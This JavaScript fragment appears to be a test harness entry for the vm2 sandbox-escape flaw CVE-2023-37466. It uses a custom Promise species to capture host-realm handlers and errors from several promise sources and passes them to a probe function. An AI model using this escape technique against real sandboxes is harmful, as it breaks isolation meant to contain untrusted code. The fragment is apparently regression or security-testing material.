// CVE-2023-37466 (GHSA-cchq-frgv-rjh5), vm2: what a promise's handlers were given was cleaned; a species of one's own has them called
// by another way, with an error of the host as it is.
const attacks = {
  species: {
    ends: ["ok"],
    async run() {
      const got = [];
      const sources = () => [
        fetch("http://127.0.0.1/"),
        import("node:sqlite"),
        (async () => null.x)(),
        new Response("{").json(),
        crypto.subtle.digest("x", new Uint8Array()),
      ];
      for (const promise of sources()) {
        class Mine extends Promise {
          constructor(executor) {
            super((resolve, reject) => {
              got.push(resolve, reject);
              executor(
                (value) => (got.push(value), resolve()),
                (error) => (got.push(error), resolve()),
              );
            });
          }
        }
        promise.constructor = { [Symbol.species]: Mine };
        await promise.then();
        await promise.finally(() => {}).catch(() => {});
      }
      return probe(...got);
    },
  },
};
